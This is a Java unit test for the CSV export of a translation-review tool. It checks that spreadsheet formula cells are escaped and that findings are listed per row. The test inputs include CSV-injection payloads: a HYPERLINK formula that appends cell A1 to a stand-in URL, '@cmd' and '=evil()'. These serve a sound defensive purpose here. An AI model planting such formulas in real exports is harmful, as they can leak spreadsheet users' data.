package org.rosetta.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringWriter;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.rosetta.check.Finding;
import org.rosetta.check.RuleId;
import org.rosetta.check.Severity;
import org.rosetta.text.Lang;
import org.rosetta.text.Segment;
import org.rosetta.text.SegmentId;
import org.rosetta.text.SegmentKind;

class CsvExportTest {
  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "=HYPERLINK(\"http://example.test/?\"&A1,\"Подробнее\")|'=HYPERLINK(\"http://example.test/?\"&A1,\"Подробнее\")",
        "+7 495 123 45 67|'+7 495 123 45 67",
        "-1 градус ночью|'-1 градус ночью",
        "@cmd|'@cmd",
        "Мы удовлетворены развитием отношений.|Мы удовлетворены развитием отношений.",
        "— Да, — сказал он.|— Да, — сказал он.",
      })
  void aCellThatASpreadsheetWouldRunAsAFormulaIsWrittenAsText(String translation, String written) throws Exception {
    Segment en = new Segment(Lang.EN, 0, 0, 5, 0, "Hello", 1, SegmentKind.SENTENCE);
    Segment ru = new Segment(Lang.RU, 0, 0, translation.length(), 0, translation, 1, SegmentKind.SENTENCE);
    StringWriter out = new StringWriter();

    new CsvExport(List.of()).write("statement", List.of(new ReviewedLink(Lang.RU, List.of(en), List.of(ru), 0.95, "accepted", "=evil()", null)), out);

    assertThat(out.toString()).startsWith("\uFEFF");
    List<CSVRecord> rows = CSVParser.parse(out.toString().substring(1), CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()).getRecords();
    assertThat(rows).singleElement().satisfies(row -> {
      assertThat(row.get("target")).isEqualTo(written);
      assertThat(row.get("source")).isEqualTo("Hello");
      assertThat(row.get("reviewer")).isEqualTo("'=evil()");
    });
  }

  @Test
  void eachRowCarriesTheFindingsOnItsSentences() throws Exception {
    Segment en1 = new Segment(Lang.EN, 0, 0, 31, 0, "The talks lasted for 3 hours.", 1, SegmentKind.SENTENCE);
    Segment en2 = new Segment(Lang.EN, 1, 32, 50, 32, "They will go on.", 1, SegmentKind.SENTENCE);
    Segment ru1 = new Segment(Lang.RU, 0, 0, 30, 0, "Переговоры длились 4 часа.", 1, SegmentKind.SENTENCE);
    Segment ru2 = new Segment(Lang.RU, 1, 31, 50, 31, "Они продолжатся.", 1, SegmentKind.SENTENCE);
    Segment he1 = new Segment(Lang.HE, 0, 0, 20, 0, "השיחות נמשכו 3 שעות.", 1, SegmentKind.SENTENCE);
    Finding number = new Finding(RuleId.NUMBERS_MISMATCH, Severity.ERROR, Lang.RU, List.of(SegmentId.parse("en-1"), SegmentId.parse("ru-1")), List.of(), "3 in en-1 is missing from ru-1", null, null);
    StringWriter out = new StringWriter();

    new CsvExport(List.of(number)).write("statement", List.of(
        new ReviewedLink(Lang.RU, List.of(en1), List.of(ru1), 0.95, "unreviewed", null, null),
        new ReviewedLink(Lang.RU, List.of(en2), List.of(ru2), 0.97, "unreviewed", null, null),
        new ReviewedLink(Lang.HE, List.of(en1), List.of(he1), 0.96, "unreviewed", null, null)), out);

    List<CSVRecord> rows = CSVParser.parse(out.toString().substring(1), CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()).getRecords();
    assertThat(rows).extracting(r -> r.get("findings")).containsExactly("error numbers.mismatch: 3 in en-1 is missing from ru-1", "", "");
  }
}
